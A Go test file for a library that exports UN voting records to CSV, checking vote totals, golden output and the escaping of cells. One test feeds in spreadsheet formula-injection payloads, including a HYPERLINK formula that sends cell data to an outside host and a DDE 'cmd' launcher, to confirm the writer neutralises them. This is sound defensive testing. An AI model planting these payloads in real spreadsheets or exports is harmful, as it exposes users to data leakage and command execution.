package plenary_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"io"
	"math/rand"
	"os"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"github.com/plenary-go/plenary"
)

func toCSV(t testing.TB, rs ...*plenary.Resolution) string {
	t.Helper()
	var b bytes.Buffer
	if err := plenary.WriteCSV(&b, plenary.Resolutions(rs...)); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// fromCSV reads a table as maps from column to cell.
func fromCSV(t testing.TB, text string) (rows []map[string]string) {
	t.Helper()
	all, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, cells := range all[1:] {
		row := map[string]string{}
		for i, cell := range cells {
			row[all[0][i]] = cell
		}
		rows = append(rows, row)
	}
	return rows
}

// TestWriteCSV compares the votes of testdata and some odd ones with a table.
func TestWriteCSV(t *testing.T) {
	refugees, conference := load(t, "a-res-73-151.json"), load(t, "imrf-2022.json")
	code := plenary.MustParseCountry
	odd := plenary.Resolution{Title: plenary.Text{NL: "Alleen \"Nederlands\",\nop twee regels"}, Stages: []plenary.Stage{
		{
			ID: "-1", Date: plenary.MustParseDate("1994-05-01"), Votes: plenary.RollCall{}.With(plenary.SetOf(code("MKD")), plenary.Absent).Exclude(plenary.SetOf(code("SRB"))).WithVacant(2),
			Stated:      stated(plenary.Tally{Yes: 100, No: 1, Absent: 7}),
			Corrections: []plenary.Correction{{Country: code("NLD"), Intended: plenary.No}, {Country: code("NLD"), Intended: plenary.Yes}},
		},
		{ID: "totals", Stated: stated(plenary.Tally{Yes: 9, Excluded: 1})},
		{ID: "none", Method: plenary.WithoutVote, Declared: plenary.DeclaredAdopted},
	}}
	got := toCSV(t, &refugees, &conference, &odd)
	const golden = "testdata/votes.csv"
	if *update {
		if err := os.WriteFile(golden, []byte(got), 0o666); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), got); diff != "" {
		t.Errorf("the table changed; if that is meant, run: go test -run TestWriteCSV -update .\n%s", diff)
	}
}

// csvStage is what a table has of the votes at a stage.
type csvStage struct {
	ID       string
	Votes    plenary.RollCall // without vacant seats, and not whole
	Totals   plenary.Totals
	Intended map[plenary.Country]plenary.Vote
}

// csvStages reads what a table has of the votes, from the rows with one symbol
// and stage after another. It knows no more than what WriteCSV documents.
func csvStages(t testing.TB, text string) (stages []csvStage) {
	t.Helper()
	last := ""
	var s *csvStage
	for _, row := range fromCSV(t, text) {
		if key := row["symbol"] + "\n" + row["stage"]; s == nil || key != last {
			stages = append(stages, csvStage{ID: exactText(row["stage"]), Intended: map[plenary.Country]plenary.Vote{}})
			s, last = &stages[len(stages)-1], key
		}
		if row["members"] != "" {
			s.Totals.Members = number(t, row["members"])
		}
		vote, bit, counts := row["vote"], 0, &s.Totals.Counts
		for i, v := range []struct {
			vote  string
			count *int
		}{
			{"yes", &counts.Yes},
			{"no", &counts.No},
			{"abstain", &counts.Abstain},
			{"notvoting", &counts.NotVoting},
			{"present", &counts.Present},
			{"absent", &counts.Absent},
			{"pending", &counts.Pending},
			{"excluded", &counts.Excluded},
			{"vacant", &counts.Vacant},
		} {
			if v.vote == vote {
				bit = i + 1
				*v.count += number(t, row["count"])
			}
		}
		switch total := row["total"]; {
		case row["code"] == "" && vote == "": // of a stage without any vote
			if row["count"]+total != "" {
				t.Errorf("%v", row)
			}
			continue
		case bit == 0 && row["count"] != "0", (row["code"] == "") != (total == "exact" || total == "atleast"):
			t.Errorf("%v", row)
		case total == "exact":
			s.Totals.Exact |= 1 << bit
		}
		if row["code"] == "" {
			continue
		}
		c := plenary.MustParseCountry(row["code"])
		switch {
		case vote == "excluded":
			s.Votes = s.Votes.Exclude(plenary.SetOf(c))
		case vote != "":
			s.Votes = s.Votes.With(plenary.SetOf(c), plenary.MustParseVote(vote))
		}
		if row["intended"] != "" {
			s.Intended[c] = plenary.MustParseVote(row["intended"])
		}
	}
	return stages
}

func number(t testing.TB, s string) int {
	t.Helper()
	n, err := strconv.Atoi(s)
	if err != nil {
		t.Error(err)
	}
	return n
}

// exactText takes off the apostrophes that keep a cell from being run.
func exactText(cell string) (exact string) {
	for dangers := "=+-@\t\r\n＝＋－＠"; cell != ""; dangers = "=+-@＝＋－＠" {
		if rest := strings.TrimLeft(cell, "'\" \u00a0\u200b\v"); cell[0] == '\'' && rest != "" && strings.ContainsRune(dangers, []rune(rest)[0]) {
			cell = cell[1:]
		}
		end := strings.IndexAny(cell, ",;\t\r\n") + 1
		if end == 0 {
			end = len(cell)
		}
		exact, cell = exact+cell[:end], cell[end:]
	}
	return exact
}

// K1, A3: what is read back from a table is the record: who is named, how many
// there were or at least were, of how many members, and what they had intended.
func TestCSVCounts(t *testing.T) {
	for seed := range int64(300) {
		r := randomResolution(rand.New(rand.NewSource(seed)))
		got := csvStages(t, toCSV(t, &r))
		var want []csvStage
		for i := range r.Stages {
			s := &r.Stages[i]
			w := csvStage{ID: s.ID, Votes: s.Votes.Among(s.Votes.Listed()).Exclude(s.Votes.Excluded()), Totals: s.Totals(), Intended: map[plenary.Country]plenary.Vote{}}
			for _, c := range s.Corrections {
				w.Intended[c.Country] = c.Intended
			}
			want = append(want, w)
		}
		if diff := cmp.Diff(want, got, values, cmpopts.EquateEmpty()); diff != "" {
			t.Fatalf("seed %d: %s", seed, diff)
		}
	}
}

// TestCSVSays writes what is on record, and no more.
func TestCSVSays(t *testing.T) {
	named := plenary.RollCall{}.With(plenary.MustParseSet("CHL", "PER"), plenary.Abstain)
	for name, c := range map[string]struct {
		stage plenary.Stage
		want  string // members and then vote, count and total of each row, as far as there is something
	}{
		"some are named (A3)":        {plenary.Stage{Votes: named, Stated: plenary.Tally{Yes: 120, No: 10, Abstain: 32}.Totals(), Partial: []plenary.Vote{plenary.Abstain}}, "abstain 1, abstain 1, yes 120 exact, no 10 exact, abstain 30 exact"},
		"some are named, no total":   {plenary.Stage{Votes: named}, "abstain 1, abstain 1"},
		"all are named":              {plenary.Stage{Votes: named, Exhaustive: []plenary.Vote{plenary.Abstain}}, "abstain 1, abstain 1, abstain 0 exact"},
		"at least so many":           {plenary.Stage{Votes: named, Stated: plenary.Totals{Counts: plenary.Tally{Yes: 150, Abstain: 5}}}, "abstain 1, abstain 1, yes 150 atleast, abstain 3 atleast"},
		"at least those named":       {plenary.Stage{Votes: named, Stated: plenary.Totals{Counts: plenary.Tally{Abstain: 2}}}, "abstain 1, abstain 1"},
		"none against (K1)":          {plenary.Stage{Stated: plenary.Totals{Counts: plenary.Tally{Yes: 152}, Exact: 1<<plenary.Yes | 1<<plenary.No}}, "yes 152 exact, no 0 exact"},
		"only those in favour (K1)":  {plenary.Stage{Stated: plenary.Tally{Yes: 152}.Totals()}, "yes 152 exact"},
		"of so many":                 {plenary.Stage{Stated: plenary.Totals{Counts: plenary.Tally{Yes: 14}, Exact: 1 << plenary.Yes, Members: 15}}, "15: yes 14 exact"},
		"only how many members":      {plenary.Stage{Stated: plenary.Totals{Members: 15}}, "15: "},
		"nothing":                    {plenary.Stage{Method: plenary.WithoutVote}, ""},
		"vacant and excluded":        {plenary.Stage{Votes: plenary.RollCall{}.Exclude(plenary.MustParseSet("VEN")).WithVacant(2), Stated: plenary.Tally{Excluded: 3}.Totals()}, "excluded 1, excluded 2 exact, vacant 2 atleast"},
		"a whole body":               {plenary.Stage{Votes: plenary.RollCall{}.With(plenary.MustParseSet("NLD"), plenary.Yes).Whole()}, "1: yes 1, yes 0 exact, no 0 exact, abstain 0 exact, notvoting 0 exact, present 0 exact, absent 0 exact, pending 0 exact, excluded 0 exact, vacant 0 exact"},
		"more listed than is stated": {plenary.Stage{Votes: named, Stated: plenary.Tally{Abstain: 1}.Totals()}, "abstain 1, abstain 1"},
	} {
		t.Run(name, func(t *testing.T) {
			var got []string
			members := ""
			for _, row := range fromCSV(t, toCSV(t, &plenary.Resolution{Stages: []plenary.Stage{c.stage}})) {
				if members = row["members"]; members != "" {
					members += ": "
				}
				got = append(got, strings.TrimSpace(row["vote"]+" "+row["count"]+" "+row["total"]))
			}
			if got := members + strings.Join(got, ", "); got != c.want {
				t.Errorf("got  %s\nwant %s", got, c.want)
			}
		})
	}
}

// TestCSVFormulas holds that no cell can run, wherever a spreadsheet cuts the
// file, and that its text can be had.
func TestCSVFormulas(t *testing.T) {
	for _, title := range []string{
		`=HYPERLINK("http://example.org?"&A1,"x")`, "+1", "-1+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", "\n=1", "'=1", "''=1", "x=1", "'x", "'", "",
		"a \"b\", c;\nd", " =1", "a;=2+5;b", "x;=1+1;", "x,-1", "x;'=1", "x;\"=1+1;", "\"=1\"", "\"'=1", "x\n@SUM(1)", "x\t＝1", "＋1", "－1", "＠x", ";;=1,,+1", // B9, K9
		"x;\n=1", "1;\"\"", "a, b; c", "\u00a0=1", "\u200b =1", "x; =1", "x,\u00a0' @x", " \t=1",
	} {
		for _, c := range []plenary.CSV{{}, {Semicolon: true}, {ByteOrderMark: true}, {Semicolon: true, ByteOrderMark: true}} {
			r := plenary.Resolution{Title: plenary.Text{EN: title}, Stages: []plenary.Stage{{ID: title, Detail: plenary.Text{EN: title}}}}
			var b bytes.Buffer
			if err := c.Write(&b, plenary.Resolutions(&r)); err != nil {
				t.Fatal(err)
			}
			text, marked := strings.CutPrefix(b.String(), "\ufeff")
			if marked != c.ByteOrderMark {
				t.Errorf("begins with %q", text[:1])
			}
			for _, part := range strings.FieldsFunc(text, func(r rune) bool { return strings.ContainsRune(",;\t\r\n", r) }) {
				if part = strings.TrimLeft(part, "\" \u00a0\u200b"); part != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(part)[0]) {
					t.Errorf("%q: %q runs", title, part)
				}
			}
			from := csv.NewReader(strings.NewReader(text))
			if c.Semicolon {
				from.Comma = ';'
			}
			rows, err := from.ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			for i, column := range rows[0] {
				cell := exactText(rows[1][i])
				if cell == "" && column != "title" {
					continue
				}
				if is := map[string]bool{"title": true, "stage": true, "detail": true}[column]; is && cell != title || !is && cell != "whole" {
					t.Errorf("%s: %q is read back as %q", column, title, cell)
				}
			}
			// A cell that another spreadsheet would cut has quotes.
			if strings.ContainsAny(title, ",;") && !strings.Contains(text, `"`) {
				t.Errorf("%q is bare", title)
			}
		}
	}
}

func TestWriteCSVErrors(t *testing.T) {
	r := load(t, "a-res-73-151.json")
	if err := plenary.WriteCSV(iotestWriter{}, plenary.Resolutions(&r)); !errors.Is(err, io.ErrClosedPipe) {
		t.Errorf("got %v", err)
	}
	if err := plenary.WriteCSV(iotestWriter{}, plenary.Resolutions()); !errors.Is(err, io.ErrClosedPipe) {
		t.Errorf("got %v", err)
	}
}

// A body of one's own is in no column; a table without it would be read as the votes
// of no body.
func TestCSVOwnBody(t *testing.T) {
	rule := plenary.MustParseRule(`body "Weimar Format=DEU FRA POL"; ` + plenary.MustParseRule("unga.committee").Text())
	r := &plenary.Resolution{Stages: []plenary.Stage{{ID: "p", Required: rule, Votes: plenary.RollCall{}.With(plenary.MustParseSet("DEU", "FRA"), plenary.Yes)}}}
	for name, write := range map[string]func(w io.Writer) error{
		"WriteCSV":    func(w io.Writer) error { return plenary.WriteCSV(w, plenary.Resolutions(r)) },
		"WriteSeries": func(w io.Writer) error { return plenary.CSV{}.WriteSeries(w, plenary.Series{{Stage: r.Stages[0]}}) },
	} {
		var b strings.Builder
		err := write(&b)
		if wrong, ok := errors.AsType[*plenary.ParseError](err); !ok || wrong.Input != "Weimar Format=DEU FRA POL" {
			t.Errorf("%s: %v", name, err)
		}
		if strings.Contains(b.String(), "DEU") {
			t.Errorf("%s wrote %q", name, b.String())
		}
	}
}
